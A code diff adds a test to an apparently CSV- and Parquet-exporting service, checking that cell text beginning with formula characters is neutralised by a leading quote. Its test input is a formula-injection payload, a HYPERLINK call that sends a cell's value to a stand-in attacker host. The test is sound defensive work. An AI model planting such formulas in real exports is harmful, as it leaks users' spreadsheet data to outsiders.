@@ -72,6 +72,16 @@ def test_numbers_keep_their_full_precision_and_text_its_letters() -> None:
     }
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=ascii)
+def test_csv_holds_no_text_that_a_spreadsheet_would_compute(start: str) -> None:
+    name = f'{start}HYPERLINK("http://evil.example?"&A1)'
+    content = orjson.dumps({"status": "done", "data": {name: -1.5, f" {start}": 2.0}})
+    job = Job(1, job_request("diff_from_mean", b"{}"))
+    rows = list(csv.reader(io.StringIO(CSV.write(job, content).decode(), newline="")))
+    assert rows == [["location", "difference"], [f"'{name}", "-1.5"], [f" {start}", "2.0"]]
+    assert parquet.read_table(io.BytesIO(PARQUET.write(job, content)))["location"].to_pylist()[0] == name
+
+
 def test_years_of_one_and_of_several_years_are_a_column_of_texts() -> None:
     cells = [{"year": year, "value": 30.0} for year in ("2011-2013", 2014)] + [{"year": None, "value": 30.0}]
     made = job_request("estimate", b"{}")
